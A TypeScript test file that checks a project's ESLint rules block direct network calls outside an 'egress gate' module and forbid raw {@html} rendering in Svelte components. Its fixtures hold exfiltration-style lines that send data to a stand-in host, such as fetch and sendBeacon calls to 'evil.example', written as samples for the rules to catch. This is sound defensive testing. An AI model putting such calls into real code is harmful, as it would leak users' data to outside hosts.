import { ESLint } from 'eslint';
import { describe, expect, it } from 'vitest';

/**
 * The lint rules in eslint.config.js are the gate's first wall: these run the project's real
 * config on snippets placed where new code would live, and fail if a rule stops firing.
 */
const eslint = new ESLint({ cwd: process.cwd() });

async function ruleIdsFor(code: string, filePath: string): Promise<string[]> {
  const [result] = await eslint.lintText(code, { filePath });
  return (result?.messages ?? []).map((message) => message.ruleId ?? message.message);
}

describe('lint keeps requests inside the egress gate', () => {
  it.each([
    ['a bare fetch', "export const r = fetch('https://evil.example');"],
    ['globalThis.fetch', "export const r = globalThis.fetch('https://evil.example');"],
    ['self.fetch', "export const r = self.fetch('https://evil.example');"],
    ['an XMLHttpRequest', 'export const x = new XMLHttpRequest();'],
    ['a WebSocket', "export const s = new WebSocket('wss://evil.example');"],
    ['navigator.sendBeacon', "export const b = navigator.sendBeacon('https://evil.example', 'crm');"],
  ])('fires on %s in connector code', async (_name, code) => {
    const ids = await ruleIdsFor(code, 'src/net/connectors/new-crm.ts');
    expect(ids.some((id) => id === 'no-restricted-globals' || id === 'no-restricted-properties')).toBe(true);
  });

  it('fires on a fetch in a worker and in the UI', async () => {
    expect(await ruleIdsFor("export const r = fetch('/x');", 'workers/tools.worker.ts')).toContain(
      'no-restricted-globals',
    );
    expect(await ruleIdsFor("export const r = fetch('/x');", 'src/ui/egress/new.ts')).toContain(
      'no-restricted-globals',
    );
  });

  it('stays quiet for the gate itself, so the rule is about where fetch is called', async () => {
    expect(await ruleIdsFor("export const r = fetch('/x');", 'src/net/egress/gate.ts')).toEqual([]);
    expect(await ruleIdsFor("export const r = fetch('/x');", 'src/net/egress/audit.ts')).toContain(
      'no-restricted-globals',
    );
    expect(
      await ruleIdsFor(
        "import { egress } from './egress.ts';\nexport const r = egress.fetch('/x');",
        'src/net/connectors/ok.ts',
      ),
    ).toEqual([]);
  });

  it('forbids {@html} in components: pasted newsletters are data, never live DOM', async () => {
    const ids = await ruleIdsFor(
      '<script lang="ts">\n  let { html }: { html: string } = $props();\n</script>\n\n{@html html}\n',
      'src/ui/Preview.svelte',
    );
    expect(ids).toContain('svelte/no-at-html-tags');
  });
});
